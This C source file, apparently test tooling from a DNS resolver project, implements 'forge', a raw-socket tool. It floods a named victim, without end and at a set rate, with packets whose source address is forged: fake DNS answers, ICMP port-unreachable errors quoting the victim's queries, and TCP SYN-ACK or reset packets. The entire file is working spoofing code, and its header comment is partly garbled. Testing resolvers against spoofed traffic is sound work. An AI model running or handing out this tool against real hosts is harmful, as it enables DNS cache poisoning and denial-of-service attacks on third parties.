/* SPDX-License-Identifier: Apache-2.0 */
/*
 * forge WHAT SOURCE VICTIM CACHE RATE [PORT]: sends so many forged packets a second to the victim,
 * for ever. They have the source address that it is told, and belong to nothing that the victim
 * sent, but that PORT may be one from which it asked.
 *
 *	answer		a DNS answer from SOURCE's port 53, to a random port, and by turns to that
 *of the probes error		an ICMP error "port unreachable" that quotes a query of the victim
 *to CACHE syn-ack, reset	of TCP, from SOURCE's port 53 to a random port
 */
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "dns.h"
#include "socket.h"

enum { PACKET = 1024, HOPS = 64, PROBE_PORT = 1021, ADDRESS = 16 };

struct host {
	struct sockaddr_storage at;
	socklen_t length;
};

static struct host source, victim, cache;
static unsigned turn, port;

static bool is_v6(void)
{
	return victim.at.ss_family == AF_INET6;
}

static const void *bytes(const struct host *host)
{
	return is_v6() ? (const void *)&((const struct sockaddr_in6 *)&host->at)->sin6_addr
		       : (const void *)&((const struct sockaddr_in *)&host->at)->sin_addr;
}

static uint16_t any(void)
{
	return (uint16_t)(random() & 0xffff);
}

static uint16_t any_port(void)
{
	return (uint16_t)(port ? port : 1024u + any() % 64000);
}

static uint32_t sum(uint32_t so_far, const void *data, size_t length)
{
	const uint8_t *p = data;

	for (size_t i = 0; i < length; i++)
		so_far += i % 2 ? p[i] : (uint32_t)p[i] << 8;
	return so_far;
}

static uint16_t folded(uint32_t so_far)
{
	while (so_far >> 16)
		so_far = (so_far & 0xffff) + (so_far >> 16);
	return htons((uint16_t)~so_far);
}

/* The checksum over the transport's part, whose own is still 0, and what stands for its header. */
static uint16_t checksum(const void *data, size_t length, uint8_t proto)
{
	const size_t size = is_v6() ? ADDRESS : 4;
	uint32_t so_far = sum(0, data, length);

	if (proto != IPPROTO_ICMP)
		so_far += (uint32_t)length + proto + sum(0, bytes(&source), size) +
			  sum(0, bytes(&victim), size);
	return folded(so_far);
}

/* Returns the header's length. */
static size_t put_ip(uint8_t *p, const struct host *from, const struct host *to, uint8_t proto,
		     size_t payload)
{
	struct ip6_hdr v6 = { 0 };
	struct ip v4 = { .ip_v = 4,
			 .ip_hl = 5,
			 .ip_len = htons((uint16_t)(sizeof v4 + payload)),
			 .ip_ttl = HOPS,
			 .ip_p = proto };

	if (is_v6()) {
		v6.ip6_flow = htonl(6u << 28);
		v6.ip6_plen = htons((uint16_t)payload);
		v6.ip6_nxt = proto;
		v6.ip6_hlim = HOPS;
		memcpy(&v6.ip6_src, bytes(from), ADDRESS);
		memcpy(&v6.ip6_dst, bytes(to), ADDRESS);
		memcpy(p, &v6, sizeof v6);
		return sizeof v6;
	}
	memcpy(&v4.ip_src, bytes(from), 4);
	memcpy(&v4.ip_dst, bytes(to), 4);
	memcpy(p, &v4, sizeof v4);
	return sizeof v4;
}

static size_t put_udp(uint8_t *p, unsigned from, unsigned to, size_t message)
{
	const struct udphdr udp = { .uh_sport = htons((uint16_t)from),
				    .uh_dport = htons((uint16_t)to),
				    .uh_ulen = htons((uint16_t)(sizeof udp + message)) };

	memcpy(p, &udp, sizeof udp);
	return sizeof udp + message;
}

static size_t put_answer(uint8_t *p)
{
	uint8_t query[PLAIN_UDP];
	static uint8_t answer[ANSWER];
	const size_t asked = make_query(query, any(), "www.example", TYPE_A, 0);
	const size_t length = make_answer(answer, query, asked, WHO_CACHE, false, false);
	const size_t all = put_udp(p, PORT, turn % 2 ? PROBE_PORT : any_port(), length);
	const size_t header = all - length;
	uint16_t check;

	memcpy(p + header, answer, length);
	check = checksum(p, all, IPPROTO_UDP);
	memcpy(p + offsetof(struct udphdr, uh_sum), &check, sizeof check);
	return all;
}

static size_t put_query(uint8_t *p)
{
	uint8_t query[PLAIN_UDP];
	const size_t asked = make_query(query, any(), "www.example", TYPE_A, 0);

	memcpy(p + sizeof(struct udphdr), query, asked);
	return put_udp(p, any_port(), PORT, asked);
}

static size_t put_syn(uint8_t *p)
{
	const struct tcphdr tcp = { .th_sport = htons(any_port()),
				    .th_dport = htons(PORT),
				    .th_seq = (uint32_t)random(),
				    .th_off = sizeof tcp / 4,
				    .th_flags = TH_SYN };

	memcpy(p, &tcp, sizeof tcp);
	return sizeof tcp;
}

static size_t put_error(uint8_t *p, uint8_t proto)
{
	const uint8_t v4[8] = { ICMP_DEST_UNREACH, ICMP_PORT_UNREACH };
	const uint8_t v6[8] = { ICMP6_DST_UNREACH, ICMP6_DST_UNREACH_NOPORT };
	uint8_t *const quoted = p + sizeof v4;
	const size_t ip = is_v6() ? sizeof(struct ip6_hdr) : sizeof(struct ip);
	const size_t payload = proto == IPPROTO_TCP ? put_syn(quoted + ip) : put_query(quoted + ip);
	const size_t length = sizeof v4 + put_ip(quoted, &victim, &cache, proto, payload) + payload;
	uint16_t check;

	memcpy(p, is_v6() ? v6 : v4, sizeof v4);
	check = checksum(p, length, is_v6() ? IPPROTO_ICMPV6 : IPPROTO_ICMP);
	memcpy(p + 2, &check, sizeof check);
	return length;
}

static size_t put_tcp(uint8_t *p, uint8_t flags)
{
	struct tcphdr tcp = { .th_sport = htons(PORT),
			      .th_dport = htons((uint16_t)(any_port())),
			      .th_ack = (uint32_t)random(),
			      .th_off = sizeof tcp / 4,
			      .th_flags = flags };

	tcp.th_sum = checksum(&tcp, sizeof tcp, IPPROTO_TCP);
	memcpy(p, &tcp, sizeof tcp);
	return sizeof tcp;
}

static size_t put_payload(uint8_t *p, const char *what, uint8_t *proto)
{
	*proto = IPPROTO_TCP;
	if (strcmp(what, "syn-ack") == 0)
		return put_tcp(p, TH_SYN | TH_ACK);
	if (strcmp(what, "reset") == 0)
		return put_tcp(p, TH_RST | TH_ACK);
	*proto = IPPROTO_UDP;
	if (strcmp(what, "answer") == 0)
		return put_answer(p);
	*proto = is_v6() ? IPPROTO_ICMPV6 : IPPROTO_ICMP;
	return put_error(p, strcmp(what, "error") == 0 ? IPPROTO_UDP : IPPROTO_TCP);
}

static void forge(int fd, const char *what)
{
	uint8_t payload[PACKET], packet[2 * PACKET], proto;
	const size_t length = put_payload(payload, what, &proto);
	const size_t header = put_ip(packet, &source, &victim, proto, length);

	memcpy(packet + header, payload, length);
	if (sendto(fd, packet, header + length, 0, (struct sockaddr *)&victim.at, victim.length) <
	    0)
		die("sendto");
	turn++;
}

static bool read_host(struct host *host, const char *text)
{
	host->length = read_address(text, 0, &host->at);
	return host->length > 0;
}

int main(int argc, char **argv)
{
	struct timespec pause;
	int fd;

	if (argc < 6 || argc > 7 || !read_host(&source, argv[2]) || !read_host(&victim, argv[3]) ||
	    !read_host(&cache, argv[4])) {
		(void)fputs(
			"usage: forge answer|error|tcp-error|syn-ack|reset SOURCE VICTIM CACHE RATE"
			" [PORT]\n",
			stderr);
		return 2;
	}
	port = argc == 7 ? (unsigned)atoi(argv[6]) : 0;
	pause = (struct timespec){ .tv_nsec = 1000000000 / atol(argv[5]) - 1 };
	srandom(1);
	fd = socket(victim.at.ss_family, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0)
		die("socket");
	for (;;) {
		forge(fd, argv[1]);
		(void)nanosleep(&pause, NULL);
	}
}
